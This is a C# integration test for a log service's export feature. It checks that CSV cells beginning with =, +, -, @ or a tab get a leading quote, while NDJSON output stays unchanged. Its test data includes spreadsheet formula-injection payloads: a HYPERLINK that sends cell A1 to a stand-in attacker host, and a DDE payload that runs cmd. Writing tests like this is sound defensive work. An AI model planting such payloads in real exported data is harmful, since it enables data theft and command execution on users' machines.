using System.Globalization;
using System.Text.Json;
using CsvHelper;
using Npgsql;
using NpgsqlTypes;

namespace Logbus.Specs.Query;

/// <summary>
/// A CSV export opened in a spreadsheet must not run what a client logged: a cell starting with <c>=</c>, <c>+</c>,
/// <c>-</c>, <c>@</c> or a tab gets a leading <c>'</c> (<c>Export:CsvEscapeFormulas</c>, on by default), whichever
/// column it is in, quoted or not; other cells and the NDJSON export keep the stored text byte for byte.
/// </summary>
[Trait("Kind", "Integration")]
public sealed class ExportCsvFormulaSpecs : IAsyncLifetime
{
    private static readonly string[] Messages =
    [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"help\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "a = b, not a formula",
    ];

    private ExportStack _stack = null!;

    public async Task InitializeAsync()
    {
        _stack = await ExportStack.StartAsync(100);
        await using var connection = await _stack.Database.DataSource.OpenConnectionAsync();
        for (var i = 0; i < Messages.Length; i++)
        {
            await using var insert = new NpgsqlCommand("""
                INSERT INTO log_events (id, "timestamp", level, message, source, metadata, received_at)
                VALUES (@id, @timestamp, 'ERROR', @message, '=source', '{"userId": "formula"}', @timestamp)
                """, connection);
            insert.Parameters.Add(new NpgsqlParameter<string>("id", $"=id{i}"));
            insert.Parameters.Add(new NpgsqlParameter<DateTimeOffset>("timestamp", _stack.End.AddHours(-1).AddMilliseconds(i)));
            insert.Parameters.Add(new NpgsqlParameter("message", NpgsqlDbType.Text) { Value = Messages[i] });
            await insert.ExecuteNonQueryAsync();
        }
    }

    public async Task DisposeAsync() => await _stack.DisposeAsync();

    [Fact]
    public async Task Cells_a_spreadsheet_would_run_start_with_a_quote_and_ndjson_keeps_them_as_stored()
    {
        var query = _stack.AllEvents + "&order=asc&filter=" + Uri.EscapeDataString("userId = 'formula'");

        var csv = await ReadCsvAsync(query + "&format=csv");
        var ndjson = (await _stack.Client.GetStringAsync(query + "&format=ndjson"))
            .Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement).ToList();

        Assert.Equal(Messages.Select(m => m == "a = b, not a formula" ? m : "'" + m), csv.Select(r => r["message"]));
        Assert.All(csv, r => Assert.Equal("'=source", r["source"]));
        Assert.Equal(Messages.Select((_, i) => $"'=id{i}"), csv.Select(r => r["id"]));
        Assert.All(csv, r => Assert.Equal("ERROR", r["level"]));
        Assert.Equal(Messages, ndjson.Select(e => e.GetProperty("message").GetString()));
        Assert.Equal(Messages.Select((_, i) => $"=id{i}"), ndjson.Select(e => e.GetProperty("id").GetString()));
    }

    private async Task<List<Dictionary<string, string>>> ReadCsvAsync(string url)
    {
        using var reader = new StringReader(await _stack.Client.GetStringAsync(url));
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        Assert.True(await csv.ReadAsync());
        csv.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (await csv.ReadAsync())
        {
            rows.Add(csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h)!, StringComparer.Ordinal));
        }

        return rows;
    }
}
